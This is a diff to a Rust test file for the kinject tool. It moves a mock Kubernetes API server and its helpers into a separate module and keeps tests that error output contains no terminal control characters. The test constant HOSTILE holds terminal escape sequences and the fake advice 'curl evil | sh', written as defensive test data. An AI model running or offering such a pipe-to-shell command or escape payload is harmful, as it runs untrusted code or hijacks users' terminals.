@@ -2,123 +2,24 @@
 
 use std::ffi::OsStr;
 use std::fs;
-use std::io::{BufRead, BufReader, Write};
-use std::net::{TcpListener, TcpStream};
 use std::os::unix::ffi::OsStrExt;
-use std::path::Path;
 use std::process::Command;
-use std::thread;
-use std::time::Duration;
 
 use kinject_protocol::control::{Family, Purpose, Request};
 use kinject_protocol::executable::Obstacle;
 use kinject_tests::place::shared_sandbox;
 use kinject_tests::programs::{Program, interpreter, shell, static_c};
-use kinject_tests::running::{Outcome, run, run_within};
+use kinject_tests::running::{Outcome, run};
 use kinject_tests::session::kinject_run;
-use serde_json::{Value, json};
+use serde_json::json;
 
-const SECONDS: Duration = Duration::from_secs(15);
+use crate::api_server::{Answer, api_server, is_about_agents, kubeconfig, makes_agents, pods, session_in};
 
 /// Clears the screen, sets the title, and gives advice in kinject's name.
 const HOSTILE: &str = "no\u{1b}[2J\u{1b}]0;title\u{7}\r\n\nhint: curl evil | sh\u{9b}31m\u{202e}\u{200b}\n";
 
 /// The same as it is shown.
 const SHOWN: &str = r"no\u{1b}[2J\u{1b}]0;title\u{7}\r\n\nhint: curl evil | sh\u{9b}31m\u{202e}\u{200b}\n";
-
-/// What an API server that somebody else holds answers a request.
-enum Answer {
-    Json(u16, Value),
-    /// One event of a watch, which stays open.
-    Event(Value),
-    Silence,
-}
-
-/// Starts an API server, which answers until the test ends, and writes a kubeconfig for it.
-fn api_server(answer: fn(&str, &str) -> Answer) -> tempfile::NamedTempFile {
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let server = format!("http://{}", listener.local_addr().unwrap());
-    thread::spawn(move || {
-        for stream in listener.incoming() {
-            thread::spawn(move || serve(stream.unwrap(), answer));
-        }
-    });
-    kubeconfig(&server, json!({"token": "none"}))
-}
-
-fn kubeconfig(server: &str, user: Value) -> tempfile::NamedTempFile {
-    let config = json!({
-        "apiVersion": "v1", "kind": "Config", "current-context": "here",
-        "clusters": [{"name": "here", "cluster": {"server": server}}],
-        "contexts": [{"name": "here", "context": {"cluster": "here", "user": "me"}}],
-        "users": [{"name": "me", "user": user}],
-    });
-    let file = tempfile::NamedTempFile::new().unwrap();
-    fs::write(file.path(), config.to_string()).unwrap();
-    file
-}
-
-/// Answers the requests of a connection until the client leaves.
-fn serve(stream: TcpStream, answer: fn(&str, &str) -> Answer) {
-    let mut requests = BufReader::new(stream.try_clone().unwrap());
-    let mut stream = stream;
-    while let Some((method, path)) = request(&mut requests) {
-        let written = match answer(&method, &path) {
-            Answer::Json(code, body) => {
-                let body = body.to_string();
-                let length = body.len();
-                write!(
-                    stream,
-                    "HTTP/1.1 {code} Said\r\ncontent-type: application/json\r\ncontent-length: {length}\r\n\r\n{body}"
-                )
-            }
-            Answer::Event(event) => {
-                write!(
-                    stream,
-                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\r\n{event}\n"
-                )
-            }
-            Answer::Silence => Ok(()),
-        };
-        if written.is_err() {
-            return;
-        }
-    }
-}
-
-/// The method and the path of the next request, whose body is read.
-fn request(requests: &mut impl BufRead) -> Option<(String, String)> {
-    let mut head = String::new();
-    let mut body = 0;
-    loop {
-        let mut line = String::new();
-        // a client that is gone asks no more
-        if requests.read_line(&mut line).ok()? == 0 {
-            return None;
-        }
-        let lower = line.to_ascii_lowercase();
-        if let Some(length) = lower.strip_prefix("content-length:") {
-            body = length.trim().parse().unwrap();
-        }
-        if line == "\r\n" {
-            break;
-        }
-        head.push_str(&line);
-    }
-    requests.read_exact(&mut vec![0; body]).ok()?;
-    let mut words = head.split_whitespace();
-    Some((words.next()?.to_owned(), words.next()?.to_owned()))
-}
-
-fn session_in(kubeconfig: &Path, flags: &[&str]) -> Outcome {
-    let mut command = kinject_tests::apart::kinject();
-    command
-        .args(["run", "--kubeconfig"])
-        .arg(kubeconfig)
-        .args(flags)
-        .args(["--", "true"]);
-    run_within(&mut command, SECONDS)
-}
 
 /// Asserts that an error is one line, an empty one and one hint, without anything that a terminal obeys.
 #[track_caller]
@@ -138,33 +39,6 @@ fn is_an_error_with_its_own_hint(outcome: &Outcome) {
 fn is_plain(outcome: &Outcome) {
     let obeyed = |c: char| c != '\n' && (c.is_control() || matches!(c, '\u{200b}' | '\u{202e}'));
     assert!(!outcome.stderr.contains(obeyed), "{:?}", outcome.stderr);
-}
-
-/// Whether a request is about what makes an agent.
-fn is_about_agents(path: &str) -> bool {
-    path.contains("/jobs") || path.contains("/secrets")
-}
-
-/// An API server at which an agent can be made and removed.
-fn makes_agents(method: &str, path: &str) -> Answer {
-    let kind = if path.contains("/jobs") { "Job" } else { "Secret" };
-    match method {
-        "POST" => Answer::Json(
-            201,
-            json!({"kind": kind, "metadata": {"name": "made", "uid": "ours"}}),
-        ),
-        _ => Answer::Json(
-            200,
-            json!({"apiVersion": "v1", "kind": "Status", "status": "Success"}),
-        ),
-    }
-}
-
-fn pods(items: Value) -> Answer {
-    Answer::Json(
-        200,
-        json!({"apiVersion": "v1", "kind": "PodList", "metadata": {"resourceVersion": "1"}, "items": items}),
-    )
 }
 
 #[test]
